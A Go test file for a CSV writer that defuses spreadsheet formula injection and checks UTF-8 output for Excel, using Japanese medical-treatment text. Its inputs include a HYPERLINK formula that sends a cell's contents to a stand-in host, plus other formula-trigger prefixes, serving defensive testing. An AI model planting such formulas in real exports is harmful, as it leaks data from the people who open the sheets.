package sheet

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// A cell of an article must never run as a formula on the computer of who opens the table.
func TestCellDefusesFormulas(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://example.com?"&A1)`: `'=HYPERLINK("http://example.com?"&A1)`,
		"+81":                                  "'+81", "-1+1": "'-1+1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1",
		" =1": "' =1", "　=1": "'　=1", "\n=1": "'\n=1", "\u200b=1": "'\u200b=1", "＝1": "'＝1", "＠A1": "'＠A1", " \t=1": "' \t=1",
		"痛み=腫れ": "痛み=腫れ", "1,000円": "1,000円", "": "", "ー": "ー", "・妊娠中の方": "・妊娠中の方",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriterIsReadAsUTF8(t *testing.T) {
	var b bytes.Buffer
	w, err := NewWriter(&b)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Row("治療", "文"); err != nil {
		t.Fatal(err)
	}
	if err := w.Row("HIFU", "「腫れ」が、\n出ます。\"数日\""); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	rest, found := bytes.CutPrefix(b.Bytes(), []byte{0xEF, 0xBB, 0xBF})
	if !found {
		t.Fatal("Excel reads a table without a byte order mark in another encoding")
	}
	rows, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil || len(rows) != 2 || rows[1][1] != "「腫れ」が、\n出ます。\"数日\"" {
		t.Errorf("%q, %v", rows, err)
	}
}
